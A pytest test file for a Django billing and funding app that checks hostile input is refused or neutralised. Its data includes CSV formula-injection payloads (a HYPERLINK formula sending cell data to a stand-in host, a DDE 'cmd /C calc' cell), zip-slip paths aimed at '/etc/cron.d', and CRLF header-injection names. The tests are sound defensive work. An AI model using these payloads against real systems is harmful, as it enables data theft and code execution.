"""Bad input on the billing and funding side: a French message (or a 4xx), never a 500, and
nothing changed. Imports, exports, double submits, replaced files, rate limits."""

import csv
import hashlib
import html
import io
import json
import re
import threading
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.core import signing
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, connection, transaction
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfWriter

from billing import services
from billing.models import Invoice, Payment, Payout
from funding.models import CollectiveAgreement, FundingRequest, PecUpload
from ganapati import csvsafe
from ganapati.errors import DomainError
from ganapati.filenames import safe_component, safe_path
from ganapati.idempotency import ALREADY_SENT, form_token_consume, form_token_issue
from ganapati.models import AuditEvent, FormToken
from sessions import services as sessions

from .conftest import form_token_in, login, post_form, require
from .factories import TrainingSessionFactory, attach_client
from .test_billing import completed_session, paid_session, zip_of

BANK_IMPORT = "admin:billing_bank_import"


def issued_invoice(trainer, client_user, staff) -> Invoice:
    """A company invoice of 2 800 €, issued (its PDF is not rendered: no commit here)."""
    session = completed_session(trainer, client_user, subrogation=False)
    (invoice,) = services.invoices_prepare(session=session, actor=staff)
    return services.invoice_issue(invoice=invoice, actor=staff)


def statement_upload(text: str | bytes, name="releve.csv"):
    content = text.encode() if isinstance(text, str) else text
    return SimpleUploadedFile(name, content, content_type="text/csv")


def signed_rows(page: str) -> str:
    return html.unescape(re.search(r'name="rows" value="([^"]+)"', page).group(1))


def pdf_of_width(width: int) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=width, height=842)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


# --- Bank statement import -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("amount", "message"),
    [
        ("NaN", "montant illisible"),
        ("sNaN", "montant illisible"),
        ("Infinity", "montant illisible"),
        ("-Infinity", "montant illisible"),
        ("1e999999", "montant illisible"),
        ("999999999999,99", "montant hors limites"),
        ("10 000 000,00", "montant hors limites"),
        ("12,345", "montant illisible"),
    ],
)
def test_a_bank_statement_with_a_nonsense_amount_shows_a_french_error_for_that_line(
    client, trainer, client_user, staff, organisation, amount, message
):
    invoice = issued_invoice(trainer, client_user, staff)
    statement = f"date;montant;libellé\n02/12/2026;{amount};VIR {invoice.number}\n"
    login(client, staff)
    response = client.post(reverse(BANK_IMPORT), {"file": statement_upload(statement)})
    page = response.content.decode()
    assert response.status_code == 200
    assert f"Ligne 2 : {message}" in html.unescape(page)
    assert "Aucun crédit dans ce relevé" in page
    assert not Payment.objects.exists()


def test_a_bank_statement_with_a_field_over_the_csv_limit_is_refused_in_french(
    client, trainer, client_user, staff, organisation
):
    invoice = issued_invoice(trainer, client_user, staff)
    statement = f"02/12/2026;2800,00;VIR {invoice.number} {'A' * 200_000}\n"
    login(client, staff)
    response = client.post(reverse(BANK_IMPORT), {"file": statement_upload(statement)})
    page = html.unescape(response.content.decode())
    assert response.status_code == 200
    assert "Ligne 1 : ce fichier n'est pas un relevé CSV lisible" in page
    assert 'name="rows"' not in page and not Payment.objects.exists()


def test_a_bank_statement_not_in_utf8_is_refused_in_french(client, staff, organisation):
    login(client, staff)
    latin1 = "02/12/2026;10,00;VIR Société Générale\n".encode("latin-1")
    response = client.post(reverse(BANK_IMPORT), {"file": statement_upload(latin1)})
    page = html.unescape(response.content.decode())
    assert response.status_code == 200
    assert "Le fichier doit être un CSV en UTF-8" in page and "codec" not in page


def test_a_bank_statement_over_five_megabytes_is_refused_in_french(client, staff, organisation):
    login(client, staff)
    big = ("02/12/2026;10,00;VIR\n" * 300_000).encode()
    response = client.post(reverse(BANK_IMPORT), {"file": statement_upload(big)})
    assert response.status_code == 200
    assert "Le relevé dépasse 5 Mo" in html.unescape(response.content.decode())


def analysed(client, staff, invoice) -> str:
    statement = f"date;montant;libellé;payeur\n02/12/2026;2 800,00;VIR {invoice.number};Dupont\n"
    login(client, staff)
    page = client.post(reverse(BANK_IMPORT), {"file": statement_upload(statement)})
    return page.content.decode()


def _payload_changed(rows: str) -> str:
    """The same payload with a larger amount, under the original timestamp and signature."""
    data = signing.loads(rows, salt="billing.bank_import")
    data["rows"][0]["amount"] = "28000.00"
    forged = signing.b64_encode(json.dumps(data, separators=(",", ":")).encode()).decode()
    _, timestamp, signature = rows.rsplit(":", 2)
    return f"{forged}:{timestamp}:{signature}"


@pytest.mark.parametrize(
    "tamper",
    [
        pytest.param(
            lambda rows: rows[:-3] + ("AAA" if rows[-3:] != "AAA" else "BBB"),
            id="signature changed",
        ),  # fmt: skip
        pytest.param(_payload_changed, id="payload changed"),
        pytest.param(
            lambda rows: (
                '[{"line": 2, "invoice": 1, "amount": "NaN", "date": '
                '"2026-12-02", "label": "x", "payer": "y"}]'
            ),
            id="unsigned json",
        ),  # fmt: skip
        pytest.param(lambda rows: "", id="missing"),
        pytest.param(lambda rows: "x" * 10_000, id="garbage"),
    ],
)
def test_tampered_bank_confirmation_data_is_refused_and_records_nothing(
    client, trainer, client_user, staff, organisation, tamper
):
    invoice = issued_invoice(trainer, client_user, staff)
    rows = signed_rows(analysed(client, staff, invoice))
    response = client.post(reverse(BANK_IMPORT), {"confirm": "1", "rows": tamper(rows),
                                                  "line": ["2"]})  # fmt: skip
    assert response.status_code == 400
    assert "ont été altérées" in html.unescape(response.content.decode())
    assert not Payment.objects.exists() and not FormToken.objects.exists()
    invoice.refresh_from_db()
    assert invoice.status == "issued"


def test_a_bank_confirmation_older_than_an_hour_is_refused(
    client, trainer, client_user, staff, organisation, monkeypatch
):
    import time

    invoice = issued_invoice(trainer, client_user, staff)
    with monkeypatch.context() as patch:
        patch.setattr(signing.TimestampSigner, "timestamp",
                      lambda self: signing.b62_encode(int(time.time()) - 3601))  # fmt: skip
        rows = signed_rows(analysed(client, staff, invoice))
    response = client.post(reverse(BANK_IMPORT), {"confirm": "1", "rows": rows, "line": ["2"]})
    assert response.status_code == 400
    assert "plus d'une heure" in html.unescape(response.content.decode())
    assert not Payment.objects.exists()


def test_a_bank_confirmation_sent_twice_records_the_payments_once(
    client, trainer, client_user, staff, organisation
):
    invoice = issued_invoice(trainer, client_user, staff)
    rows = signed_rows(analysed(client, staff, invoice))
    data = {"confirm": "1", "rows": rows, "line": ["2"]}
    first = client.post(reverse(BANK_IMPORT), data)
    assert first.status_code == 302
    again = client.post(reverse(BANK_IMPORT), data)
    assert again.status_code == 200 and ALREADY_SENT in html.unescape(again.content.decode())
    assert Payment.objects.get().amount == Decimal("2800.00")


def test_a_bank_confirmation_for_an_invoice_paid_meanwhile_records_nothing_for_it(
    client, trainer, client_user, staff, organisation
):
    invoice = issued_invoice(trainer, client_user, staff)
    rows = signed_rows(analysed(client, staff, invoice))
    services.payment_record(invoice=invoice, actor=staff, amount=Decimal("2800"),
                            paid_on=timezone.localdate(), payer="Saisie manuelle")  # fmt: skip
    response = client.post(reverse(BANK_IMPORT), {"confirm": "1", "rows": rows, "line": ["2"]},
                           follow=True)  # fmt: skip
    page = html.unescape(response.content.decode())
    assert f"Ligne 2 : Facture {invoice.number} n'est plus à payer" in page
    assert "0 paiement(s) enregistré(s)" in page
    assert Payment.objects.get().payer == "Saisie manuelle"


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ({"amount": "NaN"}, "illisible"),
        ({"amount": "sNaN"}, "illisible"),
        ({"amount": "1e999999"}, "ne peut dépasser"),
        ({"amount": "-5"}, "positif"),
        ({"amount": "1.001"}, "centime"),
        ({"date": "demain"}, "données illisibles"),
        ({"invoice": "x"}, "données illisibles"),
        ({"invoice": 999_999}, "facture introuvable"),
    ],
)
def test_each_confirmed_bank_row_is_checked_again_by_the_service(
    trainer, client_user, staff, organisation, row, message
):
    invoice = issued_invoice(trainer, client_user, staff)
    base = {"line": 2, "date": "2026-12-02", "amount": "2800.00", "label": "VIR",
            "payer": "Dupont", "invoice": invoice.pk}  # fmt: skip
    token = form_token_issue(scope=services.BANK_IMPORT_SCOPE, user=staff)
    done, errors = services.bank_statement_confirm(
        rows=[{**base, **row}], lines={2}, actor=staff, form_token=token
    )
    assert done == 0 and len(errors) == 1 and message in errors[0]
    assert not Payment.objects.exists()


# --- IDCC import ---------------------------------------------------------------------------------

IDCC_IMPORT = "/admin/funding/collectiveagreement/importer/"


def agreements_snapshot():
    return sorted(CollectiveAgreement.objects.values_list("idcc", "opco_id", "source"))


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param(
            ("SIRET|IDCC|OPCO_PROPRIETAIRE|OPCO_GESTION\n00000000000001|9998|AKTO|AKTO\n"
             f"00000000000002|{'9' * 200_000}|AKTO|AKTO\n").encode(),
            "la ligne 3 est illisible (champ démesuré",
            id="field over the csv limit",
        ),
        pytest.param(
            ("SIRET|IDCC|OPCO_PROPRIETAIRE|OPCO_GESTION\n00000000000001|9998|AKTO|AKTO\n"
             "00000000000002|9997|Société Générale|AKTO\n").encode("latin-1"),
            "n'est pas encodé en UTF-8",
            id="latin-1",
        ),
        pytest.param(b"a;b;c\n1;2;3\n", "en-tête attendu", id="another header"),
    ],
)  # fmt: skip
def test_a_broken_idcc_file_is_refused_in_french_and_changes_nothing(
    client, staff, content, message
):
    before = agreements_snapshot()
    login(client, staff)
    response = client.post(IDCC_IMPORT, {"file": SimpleUploadedFile("fc.csv", content)})
    page = html.unescape(response.content.decode())
    assert response.status_code == 200
    assert message in page and "codec" not in page and "field larger" not in page
    assert agreements_snapshot() == before
    assert not AuditEvent.objects.filter(action="agreements.imported").exists()


# --- CSV formula injection -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x.example","clic")', '\'=HYPERLINK("http://x.example","clic")'),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-50,00", "-50,00"),
        ("+3.5", "+3.5"),
        ("Boulangerie = pain", "Boulangerie = pain"),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
    ],
)
def test_csvsafe_neutralises_formula_cells_and_leaves_numbers_alone(cell, written):
    assert csvsafe.neutralise(cell) == written


def test_a_formula_typed_as_company_name_is_text_in_the_accounting_export(
    client, trainer, client_user, staff, organisation
):
    client_user.company.legal_name = '=HYPERLINK("http://x.example/?d="&A1,"Détails")'
    client_user.company.save()
    invoice = issued_invoice(trainer, client_user, staff)
    login(client, staff)
    export = client.post("/admin/billing/invoice/",
                         {"action": "export_csv", "_selected_action": [invoice.pk]})  # fmt: skip
    header, row = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    assert row[header.index("client")] == "'" + client_user.company.legal_name
    assert row[header.index("TTC")] == "2800,00"


def test_formulas_in_bank_payer_reference_and_trainee_names_are_text_in_the_audit_zip(
    client, trainer, client_user, staff, organisation, django_capture_on_commit_callbacks
):
    session = paid_session(trainer, client_user, staff, django_capture_on_commit_callbacks)
    invoice = session.invoices.get()
    with django_capture_on_commit_callbacks(execute=True):
        services.payment_record(invoice=invoice, actor=staff, amount=Decimal("1"),
                                paid_on=timezone.localdate(), payer="@SUM(1+1)*cmd|' /C calc'!A0",
                                bank_reference="=1+2")  # fmt: skip
    session.trainees.filter(position=0).update(first_name="=2+5")
    login(client, staff)
    archive = zip_of(client.get(reverse("session_audit_export", args=[session.pk])))
    payments = list(csv.reader(io.StringIO(
        archive.read(f"{session.reference}/paiements.csv").decode()), delimiter=";"))  # fmt: skip
    assert ["'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+2"] in [r[3:5] for r in payments]
    manifest = list(csv.reader(io.StringIO(archive.read("manifest.csv").decode()), delimiter=";"))
    assert all(row[3].startswith("'=2+5 ") for row in manifest[1:])


# --- ZIP entry names -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("../../../../../tmp/zipslip", "tmp-zipslip"),
        ("..", "fichier"),
        (".bashrc", "bashrc"),
        ("C:\\Windows\\evil.pdf", "C--Windows-evil.pdf"),
        ("a..b...pdf", "a.b.pdf"),
        ("Dupont\r\nX-Injected: 1", "Dupont X-Injected- 1"),
        ("Zoé\u202eexe.pdf", "Zoé exe.pdf"),
        ("Émargement signé 3.pdf", "Émargement signé 3.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("", "fichier"),
    ],
)
def test_file_name_components_are_sanitised(text, expected):
    assert safe_component(text) == expected


def test_file_name_components_are_bounded_and_keep_their_extension():
    name = safe_component("Éléonore " * 50 + ".pdf")
    assert len(name) <= 100 and name.endswith(".pdf") and name.startswith("Éléonore")
    assert len(safe_component("😀" * 100 + ".pdf").encode()) <= 240
    assert safe_path("S-1", "../..", "a/b.pdf") == "S-1/fichier/a-b.pdf"


def test_zip_entries_stay_inside_the_archive_whatever_trainees_and_uploads_are_called(
    client, trainer, client_user, staff, organisation, django_capture_on_commit_callbacks,
    tmp_path,
):  # fmt: skip
    from sessions.models import AttendanceScan

    session = paid_session(trainer, client_user, staff, django_capture_on_commit_callbacks)
    session.trainees.filter(position=0).update(last_name="../../../../../tmp/zipslip",
                                               first_name="A\r\nB")  # fmt: skip
    session.trainees.filter(position=1).update(last_name="x" * 150)
    # A corrected name gives new versions of the trainees' certificates (titled after them).
    from django.db import transaction

    from documents.services import document_request

    with django_capture_on_commit_callbacks(execute=True), transaction.atomic():
        for trainee in session.trainees.all():
            document_request(owner=session, kind="certificat", subject=trainee, source="rename")
    request = FundingRequest.objects.get(session=session)
    PecUpload.objects.create(
        request=request, file=ContentFile(pdf_of_width(595), name="pec/p.pdf"),
        original_name="../../../etc/cron.d/evil\r\n.pdf", sha256="0" * 64, size=1,
        uploaded_by=client_user,
    )  # fmt: skip
    AttendanceScan.objects.create(
        session=session, file=ContentFile(pdf_of_width(595), name="emargement/s.pdf"),
        original_name="/absolute/..\\..\\scan.pdf", sha256="0" * 64, size=1,
    )  # fmt: skip
    login(client, staff)
    archive = zip_of(client.get(reverse("session_audit_export", args=[session.pk])))
    names = archive.namelist()
    for name in names:
        parts = name.split("/")
        assert parts[0] in (session.reference, "manifest.csv"), name
        assert not any(p in ("", ".", "..") or p.startswith(".") for p in parts), name
        assert "\\" not in name and not re.search(r"[\x00-\x1f\x7f]", name), name
        assert all(len(p) <= 110 for p in parts), name
    assert any("tmp-zipslip A B" in n for n in names)
    assert f"{session.reference}/pec/Accord de prise en charge {PecUpload.objects.get().pk}.pdf" \
        in names  # fmt: skip
    assert not any("evil" in n or "cron" in n or "absolute" in n for n in names)
    # A naive extractor (joining names to its folder) stays inside its folder.
    target = tmp_path / "extraction"
    for name in names:
        assert (target / name).resolve().is_relative_to(target.resolve()), name


# --- Double submit and amount bounds -------------------------------------------------------------


def payment_form(client, invoice):
    url = reverse("admin:billing_invoice_payment", args=[invoice.pk])
    return url, form_token_in(client.get(url))


def test_a_payment_form_sent_twice_records_one_payment(
    client, trainer, client_user, staff, organisation
):
    invoice = issued_invoice(trainer, client_user, staff)
    login(client, staff)
    url, token = payment_form(client, invoice)
    data = {"amount": "2 800,00", "paid_on": "2026-12-01", "payer": "Boulangerie",
            "form_token": token}  # fmt: skip
    assert client.post(url, data).status_code == 302
    again = client.post(url, data)
    assert again.status_code == 200 and ALREADY_SENT in html.unescape(again.content.decode())
    assert Payment.objects.count() == 1
    invoice.refresh_from_db()
    assert invoice.balance == 0


@pytest.mark.parametrize("token", ["", "faux", None])
def test_a_payment_form_without_a_valid_token_records_nothing(
    client, trainer, client_user, staff, organisation, token
):
    invoice = issued_invoice(trainer, client_user, staff)
    login(client, staff)
    url, _ = payment_form(client, invoice)
    data = {"amount": "2 800,00", "paid_on": "2026-12-01", "payer": "Boulangerie"}
    if token is not None:
        data["form_token"] = token
    response = client.post(url, data)
    assert response.status_code == 200
    assert "n'est plus valable" in html.unescape(response.content.decode())
    assert not Payment.objects.exists()


def test_a_form_token_is_bound_to_its_form_and_user(
    trainer, client_user, staff, other_trainer, organisation
):
    invoice = issued_invoice(trainer, client_user, staff)
    token = form_token_issue(scope=services.payment_form_scope(invoice), user=staff)
    with transaction.atomic():
        for scope, user in [("billing.payment:0", staff),
                            (services.payment_form_scope(invoice), other_trainer)]:  # fmt: skip
            with pytest.raises(DomainError, match="n'est plus valable"):
                form_token_consume(token=token, scope=scope, user=user)
    assert not FormToken.objects.exists()


def test_a_credit_note_form_sent_twice_issues_one_credit_note(
    client, trainer, client_user, staff, organisation
):
    invoice = issued_invoice(trainer, client_user, staff)
    login(client, staff)
    url = reverse("admin:billing_invoice_credit", args=[invoice.pk])
    data = {"reason": "Erreur de client", "form_token": form_token_in(client.get(url))}
    assert client.post(url, data).status_code == 302
    again = client.post(url, data)
    assert again.status_code == 200 and ALREADY_SENT in html.unescape(again.content.decode())
    assert Invoice.objects.filter(kind="credit_note").count() == 1


@pytest.mark.parametrize(
    ("amount", "message"),
    [
        ("10 000 000,00", "Un paiement ne peut dépasser 9 999 999,99 €"),
        ("999999999999,99", "Un paiement ne peut dépasser 9 999 999,99 €"),
        ("1e999999", "Un paiement ne peut dépasser 9 999 999,99 €"),
        ("NaN", "Saisissez un nombre"),
        ("sNaN", "Saisissez un nombre"),
        ("Infinity", "Saisissez un nombre"),
        ("-5", "supérieure ou égale"),
    ],
)
def test_a_payment_amount_out_of_bounds_gets_a_french_form_error(
    client, trainer, client_user, staff, organisation, amount, message
):
    invoice = issued_invoice(trainer, client_user, staff)
    login(client, staff)
    url, token = payment_form(client, invoice)
    response = client.post(url, {"amount": amount, "paid_on": "2026-12-01", "payer": "B",
                                 "form_token": token})  # fmt: skip
    assert response.status_code == 200
    assert message in html.unescape(response.content.decode()).replace("\xa0", " ")
    assert not Payment.objects.exists() and not FormToken.objects.exists()


def test_the_database_refuses_a_payment_above_the_bound(trainer, client_user, staff, organisation):
    invoice = issued_invoice(trainer, client_user, staff)
    with pytest.raises(IntegrityError), transaction.atomic():
        Payment.objects.create(invoice=invoice, amount=Decimal("10000000.00"), payer="X",
                               paid_on=timezone.localdate(), recorded_by=staff)  # fmt: skip
    with pytest.raises(DomainError, match="ne peut dépasser"):
        services.payment_record(invoice=invoice, actor=staff, amount=Decimal("10000000"),
                                paid_on=timezone.localdate(), payer="X")  # fmt: skip


@pytest.mark.services
@pytest.mark.django_db(transaction=True)
def test_six_concurrent_submits_of_the_payment_form_record_one_payment(
    trainer, client_user, staff, organisation, funders
):
    from django.db import connections

    require(connection.vendor == "postgresql", "PostgreSQL requis (DATABASE_URL)")
    invoice = issued_invoice(trainer, client_user, staff)
    url, token = payment_form(login(Client(), staff), invoice)
    data = {"amount": "2 800,00", "paid_on": "2026-12-01", "payer": "Boulangerie",
            "form_token": token}  # fmt: skip
    clients = [login(Client(), staff) for _ in range(6)]
    barrier = threading.Barrier(len(clients))
    responses, errors = [], []

    def submit(browser):
        try:
            barrier.wait()
            responses.append(browser.post(url, data))
        except Exception as exc:  # pragma: no cover - reported below
            errors.append(exc)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=submit, args=(c,)) for c in clients]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    assert sorted(r.status_code for r in responses) == [200] * 5 + [302]
    assert sum(ALREADY_SENT in html.unescape(r.content.decode()) for r in responses) == 5
    assert Payment.objects.filter(invoice=invoice).count() == 1
    invoice.refresh_from_db()
    assert invoice.status == "paid" and invoice.balance == 0


# --- Replaced trainer invoice --------------------------------------------------------------------


def test_a_trainer_invoice_uploaded_again_deletes_the_old_file_and_logs_its_hash(
    client, trainer, client_user, staff, organisation, django_capture_on_commit_callbacks
):
    session = paid_session(trainer, client_user, staff, django_capture_on_commit_callbacks)
    login(client, trainer)
    url = reverse("payout_invoice_upload", args=[session.pk])
    first, second = pdf_of_width(595), pdf_of_width(600)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"file": SimpleUploadedFile("v1.pdf", first), "amount": "2 380,00",
                          "number": "JM-1"})  # fmt: skip
    old_name = Payout.objects.get(session=session).trainer_invoice.name
    assert default_storage.exists(old_name)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"file": SimpleUploadedFile("v2.pdf", second), "amount": "2 380,00",
                          "number": "JM-1"})  # fmt: skip
    payout = Payout.objects.get(session=session)
    assert payout.trainer_invoice_name == "v2.pdf"
    assert not default_storage.exists(old_name)
    assert default_storage.exists(payout.trainer_invoice.name)
    event = AuditEvent.objects.filter(action="billing.trainer_invoice").order_by("pk").last()
    assert event.data["sha256"] == hashlib.sha256(second).hexdigest()
    assert event.data["replaced"] == {"name": old_name, "original_name": "v1.pdf",
                                      "sha256": hashlib.sha256(first).hexdigest()}  # fmt: skip


def test_a_refused_trainer_invoice_keeps_the_previous_file(
    client, trainer, client_user, staff, organisation, django_capture_on_commit_callbacks
):
    session = paid_session(trainer, client_user, staff, django_capture_on_commit_callbacks)
    login(client, trainer)
    url = reverse("payout_invoice_upload", args=[session.pk])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(url, {"file": SimpleUploadedFile("v1.pdf", pdf_of_width(595)),
                          "amount": "2 380,00", "number": "JM-1"})  # fmt: skip
    old_name = Payout.objects.get(session=session).trainer_invoice.name
    for amount in ("2 381,00", "sNaN", "NaN", "1e999999", "9" * 40):
        with django_capture_on_commit_callbacks(execute=True):
            page = client.post(url, {"file": SimpleUploadedFile("v2.pdf", pdf_of_width(600)),
                                     "amount": amount}, follow=True)  # fmt: skip
        assert page.status_code == 200
        text = html.unescape(page.content.decode())
        assert "doit être égal à votre part" in text or "Indiquez le montant total" in text
    assert Payout.objects.get(session=session).trainer_invoice.name == old_name
    assert default_storage.exists(old_name)


def test_under_the_self_billing_mandate_the_platforms_invoice_cannot_be_replaced(
    client, trainer, client_user, staff, organisation, django_capture_on_commit_callbacks
):
    from ganapati.models import TrainerProfile

    login(client, trainer)
    TrainerProfile.objects.update_or_create(user=trainer, defaults={
        "siret": "12345678200010", "address": "8 rue des Lilas", "postal_code": "69003",
        "city": "Lyon", "vat_regime": "franchise"})  # fmt: skip
    client.post(reverse("trainer_self_billing"), {"accept": "1"})
    session = paid_session(trainer, client_user, staff, django_capture_on_commit_callbacks)
    payout = Payout.objects.get(session=session)
    page = client.get(reverse("session_detail", args=[session.pk])).content.decode()
    assert "Déposer ma facture" not in page
    with pytest.raises(DomainError, match="autofacturation"):
        services.payout_invoice_upload(
            payout=payout, actor=trainer, amount=payout.amount,
            upload=SimpleUploadedFile("f.pdf", pdf_of_width(595)),
        )  # fmt: skip
    assert default_storage.exists(payout.trainer_invoice.name)


# --- PEC upload rate limit -----------------------------------------------------------------------


@pytest.fixture
def frozen_window(monkeypatch):
    """All attempts fall in one rate-limit window, whatever the clock does during the test."""
    monkeypatch.setattr("ganapati.ratelimit.time", SimpleNamespace(time=lambda: 1_800_000_000.0))


def validated_session(trainer, client_user):
    session = attach_client(TrainingSessionFactory(trainer=trainer), client_user)
    sessions.session_validate(session=session, actor=trainer)
    session.refresh_from_db()
    return session


def post_pec(client, session, *, valid=True):
    from .test_pec import pdf_bytes

    data = {"decision": "total", "file_number": "OPCO-2026-42", "amount_granted": "2800",
            "minutes_granted": "14 h", "subrogation": "on"}  # fmt: skip
    if valid:
        data["file"] = SimpleUploadedFile("accord.pdf", pdf_bytes(), "application/pdf")
    return post_form(client, reverse("client_funding", args=[session.pk]), data)


def test_the_eleventh_pec_upload_of_the_hour_for_a_session_is_refused_and_nothing_stored(
    client, trainer, client_user, organisation, frozen_window
):
    session = validated_session(trainer, client_user)
    login(client, client_user)
    for _ in range(10):
        assert post_pec(client, session, valid=False).status_code == 200
    response = post_pec(client, session)
    assert response.status_code == 429
    assert "Trop de tentatives" in html.unescape(response.content.decode())
    assert not FundingRequest.objects.exists() and not PecUpload.objects.exists()
    assert not default_storage.exists("pec")


def test_the_thirty_first_pec_upload_of_the_hour_from_one_address_is_refused(
    client, trainer, client_user, organisation, frozen_window
):
    batches = [(validated_session(trainer, client_user), n) for n in (8, 8, 8, 6)]
    login(client, client_user)
    for session, attempts in batches:
        for _ in range(attempts):
            assert post_pec(client, session, valid=False).status_code == 200
    last = batches[-1][0]
    response = post_pec(client, last)
    assert response.status_code == 429
    assert "Trop de tentatives" in html.unescape(response.content.decode())
    assert not PecUpload.objects.exists()
    # Another address still gets through for that session (7 attempts of 10 so far).
    other = Client(REMOTE_ADDR="192.0.2.7")
    login(other, client_user)
    assert post_pec(other, last).status_code == 302
    assert PecUpload.objects.count() == 1


@pytest.mark.django_db
def test_a_nul_character_anywhere_gets_the_french_400_page_and_saves_nothing(
    client, trainer, client_user
):
    """PostgreSQL refuses NUL in text: read raw by a view, it was a 500 (the completion page's
    observations, a search box). Refused before any view runs."""
    from sessions.models import Trainee

    from .conftest import login
    from .factories import TrainingSessionFactory, attach_client

    session = attach_client(TrainingSessionFactory(trainer=trainer), client_user)
    login(client, trainer)
    response = client.get("/formateur/", {"q": "négo\x00ciation"})
    assert response.status_code == 400
    assert "Cette demande n'a pas pu être traitée" in response.content.decode()
    trainee = session.trainees.first()
    response = client.post(
        reverse("session_complete", args=[session.pk]),
        {f"acquired-{trainee.pk}": "yes", f"result-{trainee.pk}": "Très bien\x00"},
    )
    assert response.status_code == 400
    assert "Rien n'a été enregistré" in response.content.decode()
    assert Trainee.objects.get(pk=trainee.pk).assessment_result == ""
    assert client.get("/formateur/", {"q": "négociation"}).status_code == 200
